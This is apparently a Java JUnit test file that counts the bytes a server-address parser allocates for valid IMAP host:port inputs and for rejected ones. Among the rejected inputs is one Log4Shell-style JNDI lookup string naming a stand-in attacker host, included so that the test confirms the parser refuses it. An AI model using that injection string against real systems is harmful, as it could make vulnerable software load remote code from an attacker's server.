package org.emailregistry.address;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.management.ThreadMXBean;
import java.lang.management.ManagementFactory;
import java.util.function.Function;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Allocation is counted, not timed: the counts are exact. The limits are those of a 64-bit JVM with compressed references. */
class AllocationTest {
    private static final int ROUNDS = 20_000;

    private final ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
    private volatile Object sink = "";

    /** The floor is one object for the address and one string for the host. */
    @ParameterizedTest
    @CsvSource({
        "imap.myserver.com:993, 88",
        "a-rather-long-host-name-of-a-provider.with-many-labels.in-some-country.mail.example.org:993, 152",
        "192.168.100.200:993, 80",
        "[2001:db8:85a3::8a2e:370:7334]:993, 96",
        "imap.xn--mller-kva.xn--bcher-kva.example:993, 104"
    })
    void anAddressCostsAtMostThirtyPercentMoreThanTheResult(String text, int floor) {
        assertThat(bytes(ServerAddress::tryParse, text)).isLessThanOrEqualTo(floor * 1.3);
        assertThat(bytes(ServerAddress::parse, text)).isLessThanOrEqualTo(floor * 1.3);
    }

    @ParameterizedTest
    @CsvSource({
        "imap.myserver.com:99999",
        "imap.myserver.com:+993",
        "imap_1.myserver.com:993",
        "-imap.myserver.com:993",
        "1.2.3.256:993",
        "2130706433:993",
        "[2001:db8::1::2]:993",
        "imap.xn--a.example:993",
        "'${jndi:ldap://evil.example/a}'"
    })
    void aRefusalCostsItsResultAlone(String text) {
        assertThat(bytes(ServerAddress::tryParse, text)).isLessThanOrEqualTo(24);
    }

    private double bytes(Function<String, ?> parser, String text) {
        double before = measured(parser, text);
        return Math.min(before, measured(parser, text)); // The first run pays for the counting itself.
    }

    @SuppressWarnings("deprecation") // Thread.threadId() came after 17.
    private double measured(Function<String, ?> parser, String text) {
        long thread = Thread.currentThread().getId();
        long before = threads.getThreadAllocatedBytes(thread);
        for (int i = 0; i < ROUNDS; i++) {
            sink = parser.apply(text);
        }
        long after = threads.getThreadAllocatedBytes(thread);
        assertThat(sink).isNotNull();
        return Math.floor((double) (after - before) / ROUNDS);
    }
}
